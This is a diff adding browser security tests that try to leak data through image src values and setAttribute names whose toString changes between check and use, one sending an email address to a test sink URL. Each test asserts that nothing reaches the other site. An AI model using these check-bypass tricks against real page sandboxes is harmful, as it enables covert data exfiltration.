@@ -165,3 +165,22 @@ describe('loaders given an address by a call, whose arguments convert differentl
     expect(servers, 'ICE servers the browser was given').to.be.oneOf([-1, 0]);
   });
 });
+
+describe('addresses set on elements, whose values convert differently the second time', function () {
+  this.timeout(20_000);
+
+  it("an image's src property set to an address object whose toString changes", async () => {
+    await attack({ page, setup: onSave(() => (new Image().src = shifty('/cover.jpg') as never)) });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it("setAttribute('src') of an address object whose toString changes", async () => {
+    await attack({ page, setup: onSave(() => document.createElement('img').setAttribute('src', shifty('/cover.jpg') as never)) });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it('setAttribute of a name that is "title" when judged and "src" when set', async () => {
+    await attack({ page, setup: onSave(() => document.createElement('img').setAttribute(shifty('title', () => 'src') as never, sink.url('/p.gif?email=ada@example.com'))) });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+});
